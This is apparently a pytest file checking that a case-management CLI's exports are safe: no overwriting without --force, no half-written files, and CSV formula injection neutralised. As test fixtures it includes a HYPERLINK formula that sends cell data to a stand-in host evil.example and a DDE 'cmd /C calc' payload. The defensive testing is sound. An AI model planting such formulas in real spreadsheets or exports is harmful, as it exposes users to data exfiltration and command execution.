"""Exports never destroy anything and never hand a spreadsheet a formula: no writing over the
database or an existing file without --force, no directories created silently, nothing
half-written, CSV cells starting with = + - @ tab CR neutralised."""

from __future__ import annotations

import json
from pathlib import Path

import polars as pl
import pytest
from test_api_support import seed_world
from typer.testing import CliRunner

from cli.main import app
from engine import auth, cases, exports, store

runner = CliRunner()
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture()
def dbfile(tmp_path: Path) -> Path:
    path = tmp_path / "o.duckdb"
    with store.connect(path) as con:
        seed_world(con)
        cases.sync_cases(con)
        auth.add_user(con, "alice", "supervisor", actor="test")
        con.execute("UPDATE alerts SET explanation = ? WHERE alert_id = 'AL-XB'", [FORMULA])
        con.execute("INSERT INTO quarantine VALUES (1, 'transactions.csv', 'transactions', 7, 'reference', ?, ?)",
                    ["@SUM(1+1)*cmd|' /C calc'!A0", json.dumps({"reference": "+1-555-0100", "note": "\tx"})])
        for to in ("in_review", "escalated"):
            cases.transition(con, _case(con), to, "unexplained pattern", auth.User("alice", "supervisor"))
    return path


def _case(con) -> str:  # type: ignore[no-untyped-def]
    return con.execute("SELECT case_id FROM cases WHERE subject_id = 'P1'").fetchone()[0]


def _intact(db: Path) -> None:
    with store.connect(db, read_only=True) as con:
        assert con.execute("SELECT count(*) FROM users").fetchone()[0] == 1
        assert con.execute("SELECT count(*) FROM cases").fetchone()[0] >= 1


def _commands(db: Path, out: Path) -> list[list[str]]:
    with store.connect(db, read_only=True) as con:
        cid = _case(con)
    return [
        ["alerts", "export", "--format", "csv", "--out", str(out), "--db", str(db)],
        ["quarantine", "export", "--out", str(out), "--db", str(db)],
        ["graph", "neighbourhood", "P1", "--out", str(out), "--db", str(db)],
        ["report", "goaml", cid, "--out", str(out), "--db", str(db)],
    ]


def test_no_export_writes_over_the_database(dbfile: Path) -> None:
    for cmd in _commands(dbfile, dbfile):
        r = runner.invoke(app, cmd)
        assert r.exit_code == 2, (cmd, r.output)
        assert "that is the database file" in r.output
        _intact(dbfile)
    key = dbfile.with_name(dbfile.name + ".audit-key")
    r = runner.invoke(app, ["alerts", "export", "--format", "csv", "--out", str(key), "--db", str(dbfile), "--force"])
    assert r.exit_code == 2 and "database file" in r.output
    r = runner.invoke(app, ["evaluate", "--labels", str(dbfile), "--json", str(dbfile), "--db", str(dbfile)])
    assert r.exit_code == 2 and "--json" in r.output and "database file" in r.output
    _intact(dbfile)


def test_an_existing_file_needs_force(dbfile: Path, tmp_path: Path) -> None:
    out = tmp_path / "keep.txt"
    for cmd in _commands(dbfile, out):
        out.write_text("precious")
        r = runner.invoke(app, cmd)
        assert r.exit_code == 2 and "exists: use --force to overwrite it" in r.output, (cmd, r.output)
        assert out.read_text() == "precious"
        r = runner.invoke(app, [*cmd, "--force"])
        assert r.exit_code == 0, (cmd, r.output)
        assert out.read_text() != "precious"
    assert not list(tmp_path.glob(".keep.txt.*"))  # no temporary file left behind


def test_a_missing_directory_is_not_created(dbfile: Path, tmp_path: Path) -> None:
    out = tmp_path / "no" / "such" / "dir" / "alerts.csv"
    for cmd in _commands(dbfile, out):
        r = runner.invoke(app, cmd)
        assert r.exit_code == 2 and "does not exist; create it first" in r.output, (cmd, r.output)
    assert not (tmp_path / "no").exists()


def test_a_failed_export_leaves_nothing_half_written(dbfile: Path, tmp_path: Path,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    def half(df: pl.DataFrame, path: Path) -> None:
        path.write_text("alert_id,typology\nAL-1,TF-")  # a part, then the disk fills
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(exports, "write_csv_for_people", half)
    out = tmp_path / "alerts.csv"
    r = runner.invoke(app, ["alerts", "export", "--format", "csv", "--out", str(out), "--db", str(dbfile)])
    assert r.exit_code == 2 and "No space left on device" in r.output
    assert not out.exists() and list(tmp_path.glob("*alerts.csv*")) == []
    out.write_text("yesterday's export")
    r = runner.invoke(app, ["alerts", "export", "--format", "csv", "--out", str(out), "--db", str(dbfile), "--force"])
    assert r.exit_code == 2 and out.read_text() == "yesterday's export"


def test_csv_exports_neutralise_formulas(dbfile: Path, tmp_path: Path) -> None:
    alerts_csv, quarantine_csv = tmp_path / "alerts.csv", tmp_path / "quarantine.csv"
    assert runner.invoke(app, ["alerts", "export", "--format", "csv", "--out", str(alerts_csv),
                               "--db", str(dbfile)]).exit_code == 0
    assert runner.invoke(app, ["quarantine", "export", "--out", str(quarantine_csv), "--db", str(dbfile)]).exit_code == 0
    alerts = pl.read_csv(alerts_csv)
    assert alerts.filter(pl.col("alert_id") == "AL-XB")["explanation"][0] == "'" + FORMULA
    q = pl.read_csv(quarantine_csv)
    assert q["reason"][0] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    for df in (alerts, q):
        for col, dtype in df.schema.items():
            if dtype == pl.String:
                assert not df[col].drop_nulls().str.contains(r"^[=+\-@\t\r]").any(), col
    # other formats keep the stored value as it is
    jsonl = tmp_path / "alerts.jsonl"
    assert runner.invoke(app, ["alerts", "export", "--format", "jsonl", "--out", str(jsonl),
                               "--db", str(dbfile)]).exit_code == 0
    assert any(json.loads(line)["explanation"] == FORMULA for line in jsonl.read_text().splitlines())


def test_neutralise_formulas_leaves_other_cells_alone() -> None:
    df = pl.DataFrame({"t": ["=1+1", "+44 20", "-5", "@x", "\tx", "\rx", "a=b", "", None], "n": list(range(9))})
    out = exports.neutralise_formulas(df)
    assert out["t"].to_list() == ["'=1+1", "'+44 20", "'-5", "'@x", "'\tx", "'\rx", "a=b", "", None]
    assert out["n"].to_list() == list(range(9))
